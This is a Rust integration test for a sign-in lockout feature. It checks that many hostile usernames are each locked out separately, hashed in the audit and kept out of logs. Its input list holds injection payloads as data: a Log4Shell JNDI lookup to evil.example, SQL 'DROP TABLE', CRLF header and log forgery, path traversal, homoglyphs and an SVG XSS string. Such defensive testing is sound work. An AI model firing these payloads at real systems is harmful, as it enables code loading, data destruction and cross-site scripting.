//! Names that would be more than names: to a store, a log, a page, a pattern.

use std::collections::BTreeSet;

use stagedoor_tests::PASSWORD;

use crate::stage::{Stage, sign_in, told};

const FAILURES_MAX: usize = 2;

/// Each is one name, whatever it looks like; no two may be counted under one key.
fn hostile() -> Vec<String> {
    let plain = [
        "",
        "a",
        "a:b",
        "a:127.0.0.1",
        "127.0.0.1",
        "*",
        "a*",
        "%",
        "_da",
        "ad_",
        "{x}",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "\r\n",
        "ada\r\nSet-Cookie: x=1",
        "ada\n2026-11-22T00:00:00Z INFO signed in",
        "ada\0",
        "ada ",
        " ada",
        "ada\t",
        "unknown:",
        "unknown:00000000",
        "token:root",
        "'; DROP TABLE accounts; --",
        "\"ada\"",
        "../ada",
        "ada/../bob",
        "ada@evil@company.test",
        "\u{ff41}da",
        "\u{430}da",
        "\u{202e}ada",
        "ada\u{200b}",
        "<svg onload=alert(1)>",
    ];
    let mut names: Vec<String> = plain.into_iter().map(str::to_owned).collect();
    names.push("x".repeat(10 * 1024));
    names.push(format!("{}y", "x".repeat(10 * 1024)));
    names.push(format!("ada{}", " ".repeat(10 * 1024)));
    names
}

#[tokio::test(flavor = "multi_thread")]
async fn each_name_is_counted_by_itself_and_none_is_taken_for_anothers() {
    let stage = Stage::open(&format!(
        "[lockout]\nfailures = {FAILURES_MAX}\nwithin = \"1h\"\nfor = \"1h\"\n"
    ))
    .await;
    let visitor = stage.visitor("127.0.0.1");
    let names = hostile();
    for name in &names {
        for _ in 0..FAILURES_MAX {
            let answer = sign_in(&visitor, name, PASSWORD).await;
            told(&answer, 401, "invalid_credentials");
        }
        told(&sign_in(&visitor, name, PASSWORD).await, 401, "locked");
    }
    let locks = stage.admin.get("/v1/lockouts?limit=1000").await.expect(200).json();
    let locks = locks["items"].as_array().expect("a list").clone();
    let ids: BTreeSet<String> = locks.iter().map(|lock| lock["id"].to_string()).collect();
    assert_eq!((locks.len(), ids.len()), (names.len(), names.len()));
    assert!(locks.iter().all(|lock| lock["account"].is_null()), "{locks:?}");
    // Nobody's name is like any of them.
    for name in ["ada", "bob"] {
        sign_in(&visitor, name, PASSWORD).await.expect(200);
    }
    is_not_repeated(&stage, &names).await;
}

/// Neither the log nor the audit holds what was typed, and no line is forged.
async fn is_not_repeated(stage: &Stage, names: &[String]) {
    let events = stage.admin.audit("event=sign_in.failed&limit=1000").await;
    assert_eq!(events.len(), names.len() * FAILURES_MAX);
    for event in &events {
        let account = event["account"].as_str().expect("a name or its hash");
        let hashed = account
            .strip_prefix("unknown:")
            .is_some_and(|hex| hex.bytes().all(|byte| byte.is_ascii_hexdigit()));
        assert!(hashed, "{event}");
    }
    let log = stage.ways.door.log();
    for telling in ["evil.example", "Set-Cookie", "signed in", "DROP TABLE", "svg", "xxxxx"] {
        assert!(!log.contains(telling), "{telling} is in the log:\n{log}");
    }
}
